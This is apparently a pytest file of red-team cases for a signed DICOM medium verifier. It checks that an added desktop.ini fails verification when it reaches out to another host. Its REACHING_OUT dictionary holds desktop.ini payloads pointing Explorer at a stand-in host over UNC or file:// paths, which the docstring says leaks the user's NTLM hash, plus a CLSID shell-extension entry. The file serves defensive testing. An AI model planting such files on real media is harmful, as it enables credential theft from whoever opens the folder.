"""Red-team cases (tenth round): a ``desktop.ini`` that reaches out, on a signed medium.

``desktop.ini`` is ignored as housekeeping (Windows writes it; issue 14), so a genuine
signed USB medium with one added stayed PASSED whatever it said. Windows Explorer acts
on it when the folder is opened: an ``IconResource`` on a network path makes it connect
over SMB and hand the user's NTLM hash to the attacker's host, a ``CLSID`` opens the
folder through a shell extension. Such a file is judged like ``autorun.inf``: an added
file (FAILED), never ignored. Each medium is made here by ``media create``.
"""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import pytest
from cryptography import x509

from dicomseal.media.create import CreateOptions, create_medium
from dicomseal.media.source import open_media
from dicomseal.media.verify import MediaVerification, verify_media
from dicomseal.samples import write_sample_studies
from dicomseal.samples.pki import TestPki
from dicomseal.signature import SigningCredentials, TrustContext
from dicomseal.verdict import Verdict


@pytest.fixture(scope="module")
def genuine(pki: TestPki, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A genuine signed folder medium (never modified: copy it)."""
    base = tmp_path_factory.mktemp("rt10-genuine")
    write_sample_studies(base / "src", instances_per_series=1, rows=8, cols=8)
    c = SigningCredentials.load(pki.signer.key, pki.signer.cert)
    inter = x509.load_pem_x509_certificate(pki.intermediate.cert.read_bytes())
    creds = SigningCredentials(c.private_key, c.certificate, (inter,))
    when = dt.datetime.now(dt.UTC).replace(microsecond=0) - dt.timedelta(minutes=5)
    create_medium(
        [base / "src"], base / "medium", creds, CreateOptions(created_at=when, label="RT10")
    )
    return base / "medium"


def _with_file(genuine: Path, tmp_path: Path, rel: str, data: bytes) -> MediaVerification:
    medium = tmp_path / "medium"
    shutil.copytree(genuine, medium)
    (medium / rel).parent.mkdir(parents=True, exist_ok=True)
    (medium / rel).write_bytes(data)
    with open_media(medium) as source:
        return verify_media(source, TrustContext.load([_root(genuine)]), workers=1)


def _root(genuine: Path) -> Path:
    return genuine.parent.parent / "pki-root.pem"


@pytest.fixture(autouse=True)
def _anchor(genuine: Path, pki: TestPki) -> None:
    shutil.copy(pki.root.cert, _root(genuine))


REACHING_OUT = {
    "unc-icon": "[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.5\\share\\icon.ico,0\r\n",
    "url-icon": "[.ShellClassInfo]\r\nIconFile=file://203.0.113.5/share/i.ico\r\n",
    "clsid": "[.ShellClassInfo]\r\nCLSID={20D04FE0-3AEA-1069-A2D8-08002B30309D}\r\n",
}


@pytest.mark.parametrize("text", REACHING_OUT.values(), ids=REACHING_OUT.keys())
@pytest.mark.parametrize("encoding", ["ascii", "utf-16"])
@pytest.mark.parametrize("rel", ["desktop.ini", "DICOM/Desktop.ini"])
def test_desktop_ini_that_reaches_out_is_not_ignored(
    genuine: Path, tmp_path: Path, text: str, encoding: str, rel: str
) -> None:
    result = _with_file(genuine, tmp_path, rel, text.encode(encoding))
    assert result.verdict is Verdict.FAILED
    assert rel in result.manifest.added
    assert rel not in result.ignored


def test_desktop_ini_as_windows_writes_it_stays_ignored(genuine: Path, tmp_path: Path) -> None:
    """Local view settings and a system icon: housekeeping, PASSED (issue 14)."""
    text = (
        "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\SHELL32.dll,4\r\n"
        "[ViewState]\r\nMode=\r\nVid=\r\nFolderType=Pictures\r\n"
    )
    result = _with_file(genuine, tmp_path, "DICOM/desktop.ini", text.encode("utf-16"))
    assert result.verdict is Verdict.PASSED, result.message
    assert result.ignored == ("DICOM/desktop.ini",)
